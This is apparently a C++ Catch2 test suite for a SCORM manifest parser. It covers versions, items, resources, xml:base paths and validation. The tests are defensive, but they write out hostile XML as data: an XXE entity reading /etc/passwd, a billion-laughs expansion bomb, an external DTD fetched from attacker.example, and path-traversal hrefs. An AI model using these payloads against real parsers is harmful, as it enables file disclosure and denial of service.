#include "scorm/manifest.h"

#include <algorithm>
#include <string>

#include <catch2/catch.hpp>

#include "test_support.h"

namespace {

using scorm::Manifest;
using scorm::Problem;
using scorm::Severity;

// True when some problem at `where` (exact) or anywhere (empty) mentions `text`.
bool has_problem(const Manifest& m, Severity severity, const std::string& text,
                 const std::string& where = "") {
  return std::any_of(m.problems.begin(), m.problems.end(), [&](const Problem& p) {
    return p.severity == severity && p.message.find(text) != std::string::npos &&
           (where.empty() || p.where == where);
  });
}

std::string dump(const Manifest& m) {
  std::string out;
  for (const Problem& p : m.problems) {
    out += (p.severity == Severity::kError ? "error " : "warning ") + p.where + ": " + p.message +
           "\n";
  }
  return out;
}

Manifest parse_ok(const std::string& xml) {
  auto result = scorm::parse_manifest(xml);
  INFO((result ? "" : result.error().message));
  REQUIRE(result);
  return std::move(*result);
}

// A SCORM 2004 3rd Edition manifest around `organizations` and `resources`.
std::string manifest_2004(const std::string& organizations, const std::string& resources) {
  return R"(<manifest identifier="M" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"
      xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3"
      xmlns:imsss="http://www.imsglobal.org/xsd/imsss">
    <metadata><schema>ADL SCORM</schema><schemaversion>2004 3rd Edition</schemaversion></metadata>
    )" + organizations +
         "<resources>" + resources + "</resources></manifest>";
}

const char* kOneOrg = R"(<organizations default="O"><organization identifier="O"><title>T</title>
      <item identifier="I" identifierref="R"><title>L</title></item></organization></organizations>)";

}  // namespace

TEST_CASE("SCORM 1.2 manifest: version, organizations, nested items and 1.2 extensions") {
  const Manifest m = parse_ok(scorm::test::data_file("scorm12_manifest.xml"));
  INFO(dump(m));
  CHECK_FALSE(m.has_errors());
  CHECK(m.problems.empty());
  CHECK(m.scorm_version == scorm::ScormVersion::kScorm12);
  CHECK(m.identifier == "com.example.safety12");
  CHECK(m.version == "1.3");
  CHECK(m.metadata.schema == "ADL SCORM");
  CHECK(m.metadata.schemaversion == "1.2");
  CHECK(m.default_organization == "ORG-SAFETY");
  REQUIRE(m.organizations.size() == 1);
  const scorm::Organization& org = m.organizations[0];
  CHECK(m.default_or_first_organization() == &org);
  CHECK(org.title == "Workshop Safety");
  REQUIRE(org.items.size() == 2);

  const scorm::Item& module = org.items[0];
  CHECK(module.title == "Module 1: Basics");
  CHECK(module.identifierref.empty());
  CHECK_FALSE(module.is_leaf());
  REQUIRE(module.children.size() == 2);

  const scorm::Item& intro = module.children[0];
  CHECK(intro.identifier == "ITEM-INTRO");
  CHECK(intro.parameters == "?lang=en");
  REQUIRE(intro.mastery_score);
  CHECK(*intro.mastery_score == 80.0);
  CHECK(intro.max_time_allowed == "00:30:00");
  CHECK(intro.time_limit_action == "exit,message");
  CHECK(intro.data_from_lms == "mode=quiz");
  CHECK(intro.is_visible);

  const scorm::Item& quiz = module.children[1];
  CHECK(quiz.prerequisites == "ITEM-INTRO");
  CHECK(quiz.prerequisites_type == "aicc_script");
  CHECK_FALSE(quiz.mastery_score);

  CHECK_FALSE(org.items[1].is_visible);

  std::vector<std::string> visited;
  scorm::for_each_item(org.items, [&](const scorm::Item& i) { visited.push_back(i.identifier); });
  CHECK(visited ==
        std::vector<std::string>{"MODULE-1", "ITEM-INTRO", "ITEM-QUIZ", "ITEM-GLOSSARY"});
}

TEST_CASE("SCORM 1.2 resources: scormtype, xml:base, files, dependencies, launch URLs") {
  const Manifest m = parse_ok(scorm::test::data_file("scorm12_manifest.xml"));
  const scorm::Resource* intro = m.find_resource("RES-INTRO");
  REQUIRE(intro != nullptr);
  CHECK(intro->scorm_type == scorm::ScormType::kSco);
  CHECK(intro->type == "webcontent");
  CHECK(intro->base == "content/intro/");
  CHECK(intro->launch_path == "content/intro/index.html");
  CHECK(intro->files ==
        std::vector<std::string>{"content/intro/index.html", "content/intro/media/intro.mp4"});
  CHECK(intro->dependencies == std::vector<std::string>{"RES-SHARED"});
  CHECK(scorm::files_of(m, *intro) ==
        std::vector<std::string>{"content/intro/index.html", "content/intro/media/intro.mp4",
                                 "content/shared/api.js", "content/shared/style.css"});

  const scorm::Resource* shared = m.find_resource("RES-SHARED");
  REQUIRE(shared != nullptr);
  CHECK(shared->scorm_type == scorm::ScormType::kAsset);
  CHECK(shared->launch_path.empty());
  CHECK(m.find_resource("NOPE") == nullptr);

  const scorm::Item& intro_item = m.organizations[0].items[0].children[0];
  CHECK(scorm::launch_url(m, intro_item) == "content/intro/index.html?lang=en");
  // The fragment of the href survives; no parameters to add.
  const scorm::Item& quiz_item = m.organizations[0].items[0].children[1];
  CHECK(scorm::launch_url(m, quiz_item) == "content/quiz/quiz.html#start");
  CHECK_FALSE(scorm::launch_url(m, m.organizations[0].items[0]));
}

TEST_CASE("SCORM 2004 3rd Edition manifest: items, completion threshold, navigation") {
  const Manifest m = parse_ok(scorm::test::data_file("scorm2004_3rd_manifest.xml"));
  INFO(dump(m));
  CHECK(m.problems.empty());
  CHECK(m.scorm_version == scorm::ScormVersion::kScorm2004);
  CHECK(m.edition == 3);
  REQUIRE(m.organizations.size() == 1);
  const scorm::Organization& org = m.organizations[0];
  CHECK_FALSE(org.objectives_global_to_system);
  REQUIRE(org.items.size() == 2);
  const scorm::Item& lesson = org.items[0];
  REQUIRE(lesson.completion_threshold);
  CHECK(*lesson.completion_threshold == Approx(0.75));
  CHECK(lesson.data_from_lms == "start=1");
  CHECK(lesson.time_limit_action == "continue,no message");
  CHECK(lesson.hide_lms_ui == std::vector<std::string>{"continue", "previous"});
  const scorm::Resource* res = m.find_resource("RES-LESSON");
  REQUIRE(res);
  CHECK(res->scorm_type == scorm::ScormType::kSco);
  // href with a query + parameters without '?': joined with '&'.
  CHECK(scorm::launch_url(m, lesson) == "lesson/index.html?mode=full&chapter=1");
}

TEST_CASE("SCORM 2004 4th Edition manifest: LOM metadata, xml:base chain, threshold attributes") {
  const Manifest m = parse_ok(scorm::test::data_file("scorm2004_4th_manifest.xml"));
  INFO(dump(m));
  CHECK(m.problems.empty());
  CHECK(m.scorm_version == scorm::ScormVersion::kScorm2004);
  CHECK(m.edition == 4);
  CHECK(scorm::scorm_version_name(m.scorm_version, m.edition) == "2004 4th Edition");
  CHECK(m.metadata.title == "Ladder Safety");
  CHECK(m.metadata.description == "Climbing without falling.");
  CHECK(m.base == "course/");
  CHECK_FALSE(m.organizations[0].shared_data_global_to_system);
  const scorm::Resource* res = m.find_resource("RES-1");
  REQUIRE(res);
  // manifest "course/" + resources "sco" (no slash: still a folder) + resource "one/".
  CHECK(res->base == "course/sco/one/");
  CHECK(res->launch_path == "course/sco/one/start.html");
  CHECK(res->files ==
        std::vector<std::string>{"course/sco/one/start.html", "course/sco/common/logo.png"});
  const scorm::Item& item = m.organizations[0].items[0];
  CHECK(item.completed_by_measure);
  REQUIRE(item.completion_threshold);
  CHECK(*item.completion_threshold == Approx(0.9));
  CHECK(item.progress_weight == Approx(0.5));
}

TEST_CASE("version detection from schemaversion and namespaces") {
  const auto version_of = [](const std::string& metadata, const std::string& ns) {
    return parse_ok("<manifest identifier='M' " + ns + ">" + metadata + "<resources/></manifest>");
  };
  const std::string meta = "<metadata><schema>ADL SCORM</schema><schemaversion>";
  const auto edition_of = [&](const std::string& schemaversion) {
    const Manifest m = version_of(meta + schemaversion + "</schemaversion></metadata>", "");
    return m.scorm_version == scorm::ScormVersion::kScorm2004 ? m.edition : -1;
  };
  CHECK(edition_of("CAM 1.3") == 2);
  CHECK(edition_of("2004 2nd Edition") == 2);
  CHECK(edition_of("2004 3rd Edition") == 3);
  CHECK(edition_of("1.2") == -1);

  SECTION("1.2 by the adlcp namespace alone, without a warning") {
    const Manifest m = version_of("", "xmlns:adlcp='http://www.adlnet.org/xsd/adlcp_rootv1p2'");
    CHECK(m.scorm_version == scorm::ScormVersion::kScorm12);
    CHECK_FALSE(has_problem(m, Severity::kWarning, "schemaversion"));
  }
  SECTION("2004 by the adlcp_v1p3 namespace, assumed 3rd Edition with a warning") {
    const Manifest m = version_of("", "xmlns:adlcp='http://www.adlnet.org/xsd/adlcp_v1p3'");
    CHECK(m.scorm_version == scorm::ScormVersion::kScorm2004);
    CHECK(m.edition == 3);
    CHECK(has_problem(m, Severity::kWarning, "assuming 2004 3rd Edition"));
  }
  SECTION("nothing to go by: 1.2 with a warning") {
    const Manifest m = version_of("", "");
    CHECK(m.scorm_version == scorm::ScormVersion::kScorm12);
    CHECK(has_problem(m, Severity::kWarning, "assuming SCORM 1.2"));
  }
}

TEST_CASE("xml:base combinations") {
  const auto launch_of = [](const std::string& manifest_base, const std::string& resources_base,
                            const std::string& resource_base, const std::string& href) {
    const auto attr = [](const std::string& v) {
      return v.empty() ? std::string() : " xml:base='" + v + "'";
    };
    const Manifest m =
        parse_ok("<manifest identifier='M' xmlns:adlcp='http://www.adlnet.org/xsd/adlcp_rootv1p2'" +
                 attr(manifest_base) + "><resources" + attr(resources_base) +
                 "><resource identifier='R' type='webcontent' adlcp:scormtype='sco' href='" + href +
                 "'" + attr(resource_base) + "/></resources></manifest>");
    return m.resources.at(0).launch_path;
  };
  CHECK(launch_of("", "", "", "index.html") == "index.html");
  CHECK(launch_of("a/", "", "", "index.html") == "a/index.html");
  CHECK(launch_of("", "b/", "", "index.html") == "b/index.html");
  CHECK(launch_of("", "", "c/", "index.html") == "c/index.html");
  CHECK(launch_of("a/", "b/", "c/", "index.html") == "a/b/c/index.html");
  CHECK(launch_of("a", "b", "c", "index.html") == "a/b/c/index.html");
  CHECK(launch_of("./a/", "", "./c/", "./x/../index.html") == "a/c/index.html");
  CHECK(launch_of("", "", "c/", "page.html?x=1#top") == "c/page.html?x=1#top");
  // An absolute URL in a base makes the resource external.
  const Manifest m = parse_ok(
      "<manifest identifier='M'><resources xml:base='https://cdn.example.com/course/'>"
      "<resource identifier='R' type='webcontent' href='a.html'/></resources></manifest>");
  CHECK(m.resources[0].external);
  CHECK(m.resources[0].launch_path == "https://cdn.example.com/course/a.html");
}

TEST_CASE("item parameters are joined as the CAM prescribes") {
  const auto url = [](const std::string& href, const std::string& parameters) {
    const Manifest m = parse_ok(manifest_2004(
        "<organizations default='O'><organization identifier='O'><title>T</title>"
        "<item identifier='I' identifierref='R' parameters='" +
            parameters + "'><title>L</title></item></organization></organizations>",
        "<resource identifier='R' type='webcontent' adlcp:scormType='sco' href='" + href + "'/>"));
    return scorm::launch_url(m, m.organizations[0].items[0]).value_or("<none>");
  };
  CHECK(url("a.html", "") == "a.html");
  CHECK(url("a.html", "?x=1") == "a.html?x=1");
  CHECK(url("a.html", "x=1") == "a.html?x=1");
  CHECK(url("a.html", "&amp;x=1") == "a.html?x=1");
  CHECK(url("a.html?y=2", "?x=1") == "a.html?y=2&x=1");
  CHECK(url("a.html", "#frag") == "a.html#frag");
  CHECK(url("a.html#top", "#frag") == "a.html#top");
  CHECK(url("a.html#top", "x=1") == "a.html?x=1#top");
}

TEST_CASE("validation problems are collected, not thrown") {
  SECTION("SCO without href") {
    const Manifest m = parse_ok(manifest_2004(
        kOneOrg, "<resource identifier='R' type='webcontent' adlcp:scormType='sco'/>"));
    CHECK(has_problem(m, Severity::kError, "SCO resource has no href", "resource R"));
  }
  SECTION("dangling identifierref") {
    const Manifest m = parse_ok(
        manifest_2004(kOneOrg,
                      "<resource identifier='OTHER' type='webcontent' adlcp:scormType='sco' "
                      "href='a.html'/>"));
    CHECK(has_problem(m, Severity::kError, "identifierref \"R\" names no resource", "item I"));
  }
  SECTION("dependency on an unknown resource") {
    const Manifest m = parse_ok(manifest_2004(
        kOneOrg,
        "<resource identifier='R' type='webcontent' adlcp:scormType='sco' href='a.html'>"
        "<dependency identifierref='GHOST'/></resource>"));
    CHECK(has_problem(m, Severity::kError, "dependency \"GHOST\" names no resource", "resource R"));
  }
  SECTION("unknown scormType") {
    const Manifest m = parse_ok(
        manifest_2004(kOneOrg,
                      "<resource identifier='R' type='webcontent' adlcp:scormType='lesson' "
                      "href='a.html'/>"));
    CHECK(has_problem(m, Severity::kError, "unknown scormType \"lesson\"", "resource R"));
  }
  SECTION("missing scormType is a warning; the resource is an asset") {
    const Manifest m =
        parse_ok(manifest_2004(kOneOrg, "<resource identifier='R' type='webcontent' href='a'/>"));
    CHECK(has_problem(m, Severity::kWarning, "no adlcp:scormType"));
    CHECK(m.resources[0].scorm_type == scorm::ScormType::kAsset);
    CHECK_FALSE(m.has_errors());
  }
  SECTION("no organizations: allowed, with a warning") {
    const Manifest m = parse_ok(manifest_2004(
        "<organizations/>",
        "<resource identifier='R' type='webcontent' adlcp:scormType='asset' href='a.pdf'/>"));
    CHECK_FALSE(m.has_errors());
    CHECK(has_problem(m, Severity::kWarning, "no organizations"));
    CHECK(m.default_or_first_organization() == nullptr);
    CHECK(m.resources.size() == 1);
  }
  SECTION("duplicate identifiers across elements") {
    const Manifest m = parse_ok(manifest_2004(
        R"(<organizations default="O"><organization identifier="O"><title>T</title>
          <item identifier="R" identifierref="R"><title>L</title></item>
          <item identifier="X" identifierref="R"><title>L</title></item>
          <item identifier="X" identifierref="R"><title>L</title></item>
          </organization></organizations>)",
        "<resource identifier='R' type='webcontent' adlcp:scormType='sco' href='a.html'/>"));
    CHECK(has_problem(m, Severity::kError, "identifier \"R\" is used 2 times"));
    CHECK(has_problem(m, Severity::kError, "identifier \"X\" is used 2 times"));
  }
  SECTION("default organization that does not exist") {
    const Manifest m = parse_ok(manifest_2004(
        R"(<organizations default="NOPE"><organization identifier="O"><title>T</title>
          <item identifier="I" identifierref="R"><title>L</title></item>
          </organization></organizations>)",
        "<resource identifier='R' type='webcontent' adlcp:scormType='sco' href='a.html'/>"));
    CHECK(has_problem(m, Severity::kError, "default organization \"NOPE\" does not exist"));
    CHECK(m.default_or_first_organization() == &m.organizations[0]);
  }
  SECTION("an href that climbs out of the package") {
    const Manifest m = parse_ok(manifest_2004(
        kOneOrg,
        "<resource identifier='R' type='webcontent' adlcp:scormType='sco' href='../../x.html'/>"));
    CHECK(has_problem(m, Severity::kError, "path escapes the package", "resource R"));
    CHECK(m.resources[0].launch_path.empty());
  }
  SECTION("an absolute href path") {
    const Manifest m = parse_ok(manifest_2004(
        kOneOrg,
        "<resource identifier='R' type='webcontent' adlcp:scormType='sco' href='/etc/x.html'/>"));
    CHECK(has_problem(m, Severity::kError, "absolute path", "resource R"));
  }
  SECTION("malformed values name the attribute") {
    const Manifest m = parse_ok(
        R"(<manifest identifier="M" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
          <organizations default="O"><organization identifier="O"><title>T</title>
          <item identifier="I" identifierref="R" isvisible="maybe"><title>L</title>
            <adlcp:masteryscore>eighty</adlcp:masteryscore></item>
          <item identifier="J" identifierref="R"><title>L</title>
            <adlcp:masteryscore>180</adlcp:masteryscore></item>
          </organization></organizations>
          <resources><resource identifier="R" type="webcontent" adlcp:scormtype="sco"
            href="a.html"/></resources></manifest>)");
    CHECK(has_problem(m, Severity::kError, "isvisible \"maybe\" is not true or false", "item I"));
    CHECK(has_problem(m, Severity::kError, "masteryscore \"eighty\" is not a number", "item I"));
    CHECK(has_problem(m, Severity::kError, "masteryscore \"180\" is outside 0..100", "item J"));
  }
  SECTION("every problem at once") {
    const Manifest m = parse_ok(manifest_2004(
        R"(<organizations default="O"><organization identifier="O"><title>T</title>
          <item identifier="I1" identifierref="MISSING"><title>L</title></item>
          <item identifier="I2" identifierref="SCO"><title>L</title></item>
          </organization></organizations>)",
        "<resource identifier='SCO' type='webcontent' adlcp:scormType='sco'>"
        "<dependency identifierref='GHOST'/></resource>"
        "<resource identifier='ODD' type='webcontent' adlcp:scormType='thing' href='x'/>"));
    size_t errors = 0;
    for (const Problem& p : m.problems) errors += p.severity == Severity::kError ? 1 : 0;
    CHECK(errors == 4);
  }
}

TEST_CASE("hostile and broken XML") {
  SECTION("XXE: an external entity is refused, not resolved") {
    const auto result = scorm::parse_manifest(
        R"(<?xml version="1.0"?>
        <!DOCTYPE manifest [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
        <manifest identifier="M"><organizations/><resources>
          <resource identifier="R" type="webcontent" href="&xxe;"/></resources></manifest>)");
    REQUIRE_FALSE(result);
    CHECK(result.error().code == scorm::ErrorCode::kInvalid);
    CHECK(result.error().message.find("entities") != std::string::npos);
  }
  SECTION("billion laughs is refused before anything expands") {
    const auto result = scorm::parse_manifest(
        R"(<?xml version="1.0"?>
        <!DOCTYPE lolz [
          <!ENTITY lol "lol">
          <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
          <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
        ]>
        <manifest identifier="&lol3;"><resources/></manifest>)");
    REQUIRE_FALSE(result);
    CHECK(result.error().message.find("DOCTYPE declares entities") != std::string::npos);
  }
  SECTION("a parameter entity pulling an external DTD is refused") {
    const auto result = scorm::parse_manifest(
        R"(<!DOCTYPE m [ <!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext; ]>
        <manifest identifier="M"><resources/></manifest>)");
    REQUIRE_FALSE(result);
  }
  SECTION("a DOCTYPE without entities is ignored with a warning") {
    const Manifest m = parse_ok(
        R"(<!DOCTYPE manifest SYSTEM "http://example.com/never-fetched.dtd">
        <manifest identifier="M"><resources/></manifest>)");
    CHECK(has_problem(m, Severity::kWarning, "DOCTYPE ignored"));
  }
  SECTION("an undeclared entity reference stays literal text") {
    const Manifest m = parse_ok(
        "<manifest identifier='M'><resources><resource identifier='R' type='webcontent' "
        "href='&undeclared;.html'/></resources></manifest>");
    CHECK(m.resources[0].href == "&undeclared;.html");
  }
  SECTION("not XML: the error names the line") {
    const auto result = scorm::parse_manifest("<manifest>\n<resources>\n</manifest>");
    REQUIRE_FALSE(result);
    CHECK(result.error().message.find("line 3") != std::string::npos);
  }
  SECTION("wrong root element") {
    const auto result = scorm::parse_manifest("<html><body/></html>");
    REQUIRE_FALSE(result);
    CHECK(result.error().message.find("<html>, not <manifest>") != std::string::npos);
  }
  SECTION("absurd nesting is refused instead of recursing") {
    std::string xml = "<manifest identifier='M'><organizations><organization identifier='O'>";
    for (int i = 0; i < 500; ++i) xml += "<item identifier='I" + std::to_string(i) + "'>";
    for (int i = 0; i < 500; ++i) xml += "</item>";
    xml += "</organization></organizations><resources/></manifest>";
    const auto result = scorm::parse_manifest(xml);
    REQUIRE_FALSE(result);
    CHECK(result.error().message.find("nested more than") != std::string::npos);
  }
  SECTION("too large") {
    const std::string xml(17 * 1024 * 1024, ' ');
    const auto result = scorm::parse_manifest(xml);
    REQUIRE_FALSE(result);
    CHECK(result.error().code == scorm::ErrorCode::kTooLarge);
  }
}

TEST_CASE("undeclared well-known prefixes and mixed-case scormtype are tolerated") {
  const Manifest m = parse_ok(
      R"(<manifest identifier="M"><metadata><schemaversion>1.2</schemaversion></metadata>
      <organizations default="O"><organization identifier="O"><title>T</title>
        <item identifier="I" identifierref="R"><title>L</title>
          <adlcp:masteryScore>70</adlcp:masteryScore></item></organization></organizations>
      <resources><resource identifier="R" type="webcontent" adlcp:scormType="SCO" href="a.html"/>
      </resources></manifest>)");
  CHECK(m.resources[0].scorm_type == scorm::ScormType::kSco);
  REQUIRE(m.organizations[0].items[0].mastery_score);
  CHECK(*m.organizations[0].items[0].mastery_score == 70.0);
}

TEST_CASE("SCORM 1.2 inline imsmd metadata and an external metadata location") {
  const Manifest m = parse_ok(
      R"(<manifest identifier="M" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2"
          xmlns:imsmd="http://www.imsglobal.org/xsd/imsmd_rootv1p2p1">
        <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion>
          <adlcp:location>course_metadata.xml</adlcp:location>
          <imsmd:lom><imsmd:general>
            <imsmd:title><imsmd:langstring xml:lang="en">Forklift Basics</imsmd:langstring></imsmd:title>
            <imsmd:description><imsmd:langstring>Driving safely.</imsmd:langstring></imsmd:description>
          </imsmd:general></imsmd:lom>
        </metadata><resources/></manifest>)");
  CHECK(m.metadata.location == "course_metadata.xml");
  CHECK(m.metadata.title == "Forklift Basics");
  CHECK(m.metadata.description == "Driving safely.");
}

TEST_CASE("schemaversion is compared without regard to case") {
  const Manifest m = parse_ok(
      "<manifest identifier='M'><metadata><schemaversion>2004 4th edition</schemaversion>"
      "</metadata><resources/></manifest>");
  CHECK(m.scorm_version == scorm::ScormVersion::kScorm2004);
  CHECK_FALSE(has_problem(m, Severity::kWarning, "schemaversion"));
}
